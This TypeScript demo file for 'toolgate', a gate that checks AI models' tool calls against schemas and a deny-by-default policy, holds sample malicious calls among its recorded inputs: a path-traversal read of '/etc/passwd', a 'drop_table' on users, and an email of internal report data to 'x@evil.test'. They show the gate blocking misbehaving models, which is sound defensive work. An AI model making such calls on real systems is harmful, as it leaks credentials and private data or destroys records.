// `toolgate demo`: an embedded scenario needing no network, keys or config. Recorded tool calls
// a model made go through a default gate; the output shows each outcome and what the model
// would get back.
import { ToolGate } from '../gate'
import type { ToolGateConfig, Verdict } from '../types'

/** The demo's tools: real-world shapes (a database search, a weather lookup, a file delete). */
export const demoConfig: ToolGateConfig = {
  version: 1,
  tools: [
    {
      name: 'search_db',
      description: 'Search customer records',
      inputSchema: {
        type: 'object',
        properties: {
          query: { type: 'string' },
          limit: { type: 'integer', minimum: 1, maximum: 100 },
          status: { type: 'string', enum: ['active', 'inactive', 'archived'] },
          tags: { type: 'array', items: { type: 'string' } },
        },
        required: ['query'],
        additionalProperties: false,
      },
    },
    {
      name: 'get_weather',
      inputSchema: {
        type: 'object',
        properties: {
          city: { type: 'string' },
          units: { type: 'string', enum: ['metric', 'imperial'], default: 'metric' },
          days: { type: 'integer', minimum: 1, maximum: 14, default: 3 },
        },
        required: ['city'],
      },
    },
    {
      name: 'delete_file',
      destructive: true,
      inputSchema: {
        type: 'object',
        properties: { path: { type: 'string' }, recursive: { type: 'boolean' } },
        required: ['path'],
        additionalProperties: false,
      },
    },
  ],
}

/** Recorded calls: [tool, the raw arguments text the model sent, what it shows]. */
export const demoCalls: [string, string, string][] = [
  ['search_db', '{"query":"acme","limit":10}', 'a clean call'],
  ['search_db', '{"query":"acme","limit":"10","status":"ACTIVE","tags":"vip"}', 'almost right: repaired'],
  ['get_weather', '{"city":"Oslo","days":"5"}', 'defaults injected'],
  ['search_db', '{"query":"acme","limit":"ten","status":"paused"}', 'wrong: sent back to the model'],
  ['search_db', '{"query":"acme","limit":3.7}', 'never truncated'],
  ['delete_file', '{"path":"/tmp/x","recursive":"true"}', 'destructive: strict, nothing repaired'],
  ['serch_db', '{"query":"acme"}', 'unknown tool'],
  ['search_db', '{"query":"a","query":"b"}', 'duplicate keys'],
  ['search_db', '{"query":"acme","limit":', 'truncated JSON'],
]

/** Recorded whole model turns, each in its provider's own wire shape, for `gate.guard`. */
export const demoTurns: { dialect: 'openai' | 'anthropic'; what: string; payload: string }[] = [
  {
    dialect: 'openai',
    what: 'an OpenAI chat.completion with three parallel calls',
    payload: JSON.stringify({
      id: 'chatcmpl-demo', object: 'chat.completion', created: 1764460800, model: 'gpt-4.1',
      choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [
        { id: 'call_1', type: 'function', function: { name: 'get_weather', arguments: '{"city":"Oslo"}' } },
        { id: 'call_2', type: 'function', function: { name: 'search_db', arguments: '{"query":"acme","limit":"5"}' } },
        { id: 'call_3', type: 'function', function: { name: 'drop_table', arguments: '{"table":"users"}' } },
      ] } }],
    }),
  },
  {
    dialect: 'anthropic',
    what: 'an Anthropic message: text and two tool_use blocks',
    payload: JSON.stringify({
      id: 'msg_demo', type: 'message', role: 'assistant', model: 'claude-sonnet-4-5', stop_reason: 'tool_use',
      content: [
        { type: 'text', text: 'Cleaning up.' },
        { type: 'tool_use', id: 'toolu_1', name: 'delete_file', input: { path: '/tmp/report.csv', recursive: 'yes' } },
        { type: 'tool_use', id: 'toolu_2', name: 'search_db', input: { query: 'stale', status: 'Archived' } },
      ],
    }),
  },
]

/** A small deny-by-default policy: who may call what, on which resource. */
export const demoPolicyConfig: ToolGateConfig = {
  version: 1,
  labels: ['public', 'internal', 'secret'],
  tools: [
    {
      name: 'read_file',
      action: 'read',
      resource: 'file:{path*}',
      output: { label: 'internal' },
      inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'], additionalProperties: false },
    },
    {
      name: 'list_orders',
      resource: 'orders:{owner}',
      args: { owner: { pin: 'subject' } },
      inputSchema: { type: 'object', properties: { owner: { type: 'string' }, status: { type: 'string', enum: ['open', 'closed'] } }, required: ['owner'] },
    },
    {
      name: 'send_email',
      writes: true,
      sink: { maxLabel: 'public' },
      inputSchema: { type: 'object', properties: { to: { type: 'string' }, body: { type: 'string' } }, required: ['to', 'body'] },
    },
    { name: 'delete_user', surface: 'operator', inputSchema: { type: 'object', properties: { id: { type: 'string' } }, required: ['id'] } },
  ],
  policy: {
    rules: [
      { effect: 'allow', roles: ['analyst'], tools: ['read_file'], resources: ['file:reports/**'] },
      { effect: 'deny', tools: ['read_file'], resources: ['file:reports/private/**'] },
      { effect: 'allow', tools: ['list_orders', 'send_email'] },
      { effect: 'allow', roles: ['admin'], tools: ['delete_user'] },
    ],
  },
}

/** The policy scenario: one analyst's session, in order (`confirm` confirms the previous call). */
export const demoPolicyCalls: [string, string, string][] = [
  ['send_email', '{"to":"boss@example.com","body":"Q3 is done"}', 'writes: waits for the user'],
  ['confirm', '', 'the user said yes: the host confirms with its token'],
  ['read_file', '{"path":"reports/q3.csv"}', 'allowed: an analyst, inside reports/'],
  ['read_file', '{"path":"reports/../../etc/passwd"}', 'climbs out of its start'],
  ['read_file', '{"path":"reports/private/salaries.csv"}', 'a deny rule wins'],
  ['list_orders', '{"owner":"bob","status":"open"}', 'pinned: the caller, not the model’s guess'],
  ['delete_user', '{"id":"u42"}', 'an operator tool, from the visitor surface'],
  ['send_email', '{"to":"x@evil.test","body":"<the report>"}', 'internal data read: a public sink refused'],
]

function paint(on: boolean) {
  const c = (code: number) => (s: string) => (on ? `\x1b[${code}m${s}\x1b[0m` : s)
  return { green: c(32), yellow: c(33), red: c(31), dim: c(2), bold: c(1) }
}

/** Renders one verdict for a terminal. */
export function renderVerdict(v: Verdict, color: boolean): string {
  const p = paint(color)
  const badge = v.outcome === 'passed' ? p.green : v.outcome === 'repaired' || v.outcome === 'confirm' ? p.yellow : p.red
  const on = v.resource === undefined ? '' : p.dim(` ${v.action} on ${v.resource}`)
  const lines = [`  ${badge(v.outcome.toUpperCase())}${v.reason ? p.dim(` (${v.reason})`) : ''}${on}`]
  for (const f of v.flags) {
    const from = f.from === undefined ? '' : ` ${JSON.stringify(f.from)}`
    const to = f.to === undefined ? '' : ` → ${JSON.stringify(f.to)}`
    lines.push(`    ${p.dim('flag')} ${f.code} at ${f.path === '' ? '(root)' : f.path}:${from}${to}`)
  }
  if (v.allowed) lines.push(`    ${p.dim('run with')} ${v.argumentsJson}`)
  if (v.message) lines.push(...v.message.split('\n').map((l) => `    ${p.dim('│')} ${l}`))
  if (v.confirmation) lines.push(`    ${p.dim('host only')} token ${v.confirmation.token.slice(0, 6)}… for "${v.confirmation.summary}"`)
  return lines.join('\n')
}

/** Runs the demo, writing to `out`. */
export function runDemo(out: (s: string) => void, color: boolean): void {
  const p = paint(color)
  const gate = new ToolGate(demoConfig)
  out(p.bold('toolgate demo') + p.dim(' — recorded tool calls through a default gate (no network, no keys)\n'))
  out(p.dim(`tools: ${gate.tools.join(', ')}\n`))
  for (const [tool, args, what] of demoCalls) {
    out(`${p.bold(tool)}(${args})  ${p.dim('— ' + what)}`)
    out(renderVerdict(gate.check(tool, args), color) + '\n')
  }
  out(p.bold('whole turns') + p.dim(' — gate.guard reads each provider\'s own shape and answers refusals in it\n'))
  for (const turn of demoTurns) {
    const report = gate.guard(turn.payload, { dialect: turn.dialect })
    out(`${p.bold(turn.dialect)}  ${p.dim('— ' + turn.what)}`)
    for (const c of report.calls) out(`  ${p.dim(c.callId)} ${c.tool}` + '\n' + renderVerdict(c, color))
    out(`  ${p.dim('feedback for the model')} ${JSON.stringify(report.feedback)}\n`)
  }
  const policy = new ToolGate(demoPolicyConfig)
  const ctx = { subject: 'ana', roles: ['analyst'], session: 'demo' }
  out(p.bold('deny by default') + p.dim(` — a policy, for ${JSON.stringify(ctx)}\n`))
  let token = ''
  for (const [tool, args, what] of demoPolicyCalls) {
    out(`${p.bold(tool)}(${args})  ${p.dim('— ' + what)}`)
    const v = tool === 'confirm' ? policy.confirm(token, ctx) : policy.check(tool, args, ctx)
    if (v.confirmation) token = v.confirmation.token
    out(renderVerdict(v, color) + '\n')
  }
}
